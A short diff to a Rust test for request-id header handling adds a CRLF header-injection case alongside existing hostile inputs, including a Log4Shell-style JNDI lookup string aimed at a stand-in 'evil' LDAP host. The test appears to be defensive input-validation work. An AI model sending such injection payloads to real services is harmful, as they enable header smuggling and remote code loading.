@@ -155,6 +155,7 @@ async fn an_id_is_taken_or_made_and_goes_back() {
         "x-other: 1",
         "x-request-id: ",
         "x-request-id: a b",
+        "x-request-id: a\r\nx-request-id: b",
         "x-request-id: {\"a\":1}",
         "x-request-id: ${jndi:ldap://evil}",
         "x-request-id: caf\u{e9}",
